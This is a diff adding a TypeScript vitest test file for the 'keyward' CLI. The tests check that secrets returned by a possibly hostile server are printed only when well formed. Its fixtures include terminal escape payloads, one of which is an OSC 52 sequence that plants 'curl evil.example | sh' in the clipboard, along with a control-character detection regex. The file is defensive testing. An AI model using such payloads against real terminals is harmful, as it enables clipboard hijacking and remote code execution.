@@ -1,0 +1,89 @@
+/**
+ * `keyward … --url` pointed at a server that is not a keyward daemon, or a hostile one: the
+ * secret line is the one text printed unsanitized, so a "secret" that is not shaped like one is
+ * never printed.
+ */
+import { randomBytes } from 'node:crypto';
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import { generateSecret, KEY_PREFIX, OPERATOR_TOKEN_PREFIX } from '../../src/daemon/secrets/format.js';
+import { keyJson } from '../tui/key-json.js';
+import { fakeDaemon, type FakeDaemon } from './fake-daemon.js';
+import type { CliRun } from './harness.js';
+
+vi.setConfig({ testTimeout: 90_000 });
+
+const KEY = keyJson({ id: 'key_3kTMd8p6NxLw0aQvYc1bZe', name: 'billing' });
+const ROTATION = { id: 'rot_8fQ2', oldKeyId: KEY.id, oldKeyName: 'billing', newKeyId: 'key_9aB', newKeyName: 'billing-2', watchSeconds: 600 };
+
+/** Every command that prints a secret, and the kind of secret it prints. */
+const REVEALING = [
+  { name: 'keys create', args: ['keys', 'create', 'billing'], kind: 'key' },
+  { name: 'keys rotate', args: ['keys', 'rotate', KEY.id], kind: 'key' },
+  { name: 'keys rotate --emergency', args: ['keys', 'rotate', KEY.id, '--emergency', '--yes'], kind: 'key' },
+  { name: 'operators create', args: ['operators', 'create', 'alice', '--role', 'viewer'], kind: 'token' },
+  { name: 'webhooks add', args: ['webhooks', 'add', 'https://hooks.example.com/keyward'], kind: 'signing secret' },
+] as const;
+
+type Kind = (typeof REVEALING)[number]['kind'];
+
+const WELL_FORMED: Record<Kind, () => string> = {
+  key: () => generateSecret(KEY_PREFIX),
+  token: () => generateSecret(OPERATOR_TOKEN_PREFIX),
+  'signing secret': () => `whsec_${randomBytes(32).toString('base64url')}`,
+};
+
+const PREFIX: Record<Kind, string> = { key: 'kw_', token: 'kwo_', 'signing secret': 'whsec_' };
+
+/** What a hostile server might pass off as a secret: each steers a terminal. */
+const HOSTILE = {
+  'clear screen': '\x1b[2J',
+  'OSC 52 (writes the clipboard)': `\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`,
+  'C1 CSI': '\u009b2J',
+};
+
+/** Anything a terminal would act on. */
+const STEERING = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
+
+let secret = '';
+let daemon: FakeDaemon;
+beforeAll(async () => {
+  daemon = await fakeDaemon((method) =>
+    method === 'GET'
+      ? { key: KEY }
+      : { key: KEY, rotation: ROTATION, operator: { id: 'op_1', name: 'alice', role: 'viewer' }, webhook: { id: 'whk_1', url: 'https://hooks.example.com/keyward', events: ['*'] }, secret, token: secret },
+  );
+});
+afterAll(() => daemon?.close());
+
+async function answering(value: string, args: readonly string[]): Promise<CliRun> {
+  secret = value;
+  return daemon.run(args);
+}
+
+describe('a secret is printed only when it has the shape of one', () => {
+  it.each(REVEALING)('$name prints a well-formed $kind alone on stdout', async ({ args, kind }) => {
+    const good = WELL_FORMED[kind]();
+    const run = await answering(good, args);
+    expect(run.code, run.stderr).toBe(0);
+    expect(run.stdout).toBe(`${good}\n`);
+  });
+
+  it.each(REVEALING)('$name refuses a malformed $kind: one line, exit 1, nothing printed', async ({ args, kind }) => {
+    const wrong = [...Object.values(HOSTILE).map((bytes) => `${PREFIX[kind]}${bytes}`), `${WELL_FORMED[kind]().slice(0, -1)}!`, kind === 'token' ? generateSecret(KEY_PREFIX) : generateSecret(OPERATOR_TOKEN_PREFIX)];
+    for (const value of wrong) {
+      for (const json of [[], ['--json']]) {
+        const run = await answering(value, [...args, ...json]);
+        expect(run.code, JSON.stringify(value)).toBe(1);
+        expect(run.stdout).toBe('');
+        expect(run.stderr).toBe(`keyward: the daemon answered a malformed ${kind}; it was not printed\n`);
+      }
+    }
+  });
+
+  it('never lets the hostile bytes reach the terminal', async () => {
+    for (const [what, bytes] of Object.entries(HOSTILE)) {
+      const run = await answering(`kw_${bytes}`, ['keys', 'create', 'billing']);
+      expect(run.stdout + run.stderr, what).not.toMatch(STEERING);
+    }
+  });
+});
